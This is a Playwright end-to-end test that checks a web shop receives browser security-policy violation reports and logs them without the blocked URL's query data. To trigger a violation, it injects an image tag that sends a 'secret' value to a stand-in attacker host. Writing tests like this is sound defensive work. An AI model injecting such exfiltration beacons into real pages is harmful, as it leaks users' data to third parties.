import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { chromium } from '@playwright/test'
import { openSecureDoor } from './secure-door.ts'
import { expect, openShopAgain, test } from './shop.ts'

test('what a browser refuses on a page is reported to the shop over https, by the header of today', async () => {
  const folder = await mkdtemp(path.join(tmpdir(), 'northlight-secure-'))
  let shopUrl = ''
  const door = await openSecureDoor(() => shopUrl)
  const origin = `https://localhost:${door.port}`
  const shop = await openShopAgain(folder, { PUBLIC_URL: origin, TRUST_PROXY: '1', LOG_LEVEL: 'warn' })
  shopUrl = shop.url
  const browser = await chromium.launchPersistentContext(path.join(folder, 'browser'), {
    executablePath: process.env.CHROMIUM_PATH ?? '',
    serviceWorkers: 'block',
    // The reports of a browser wait for up to a minute to go together.
    args: [
      '--headless=new',
      '--no-sandbox',
      `--ignore-certificate-errors-spki-list=${door.keyHash}`,
      '--short-reporting-delay'
    ]
  })
  try {
    const page = browser.pages()[0] ?? (await browser.newPage())
    await page.goto(origin)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await page.evaluate(() => {
      document.body.appendChild(document.createElement('img')).src = 'https://thief.example/pixel?what=secret'
    })
    // Told without what was in the address.
    await expect.poll(() => shop.said()).toContain('"blocked":"https://thief.example"')
    expect(shop.said()).toContain('a browser refused something on a page')
    expect(shop.said()).not.toContain('secret')
    // Not by the older way, which it uses where it does not know this one.
    expect(door.reports()).toEqual(['application/reports+json'])
  } finally {
    await browser.close()
    await shop.stop()
    await door.close()
    await rm(folder, { recursive: true, force: true })
  }
})
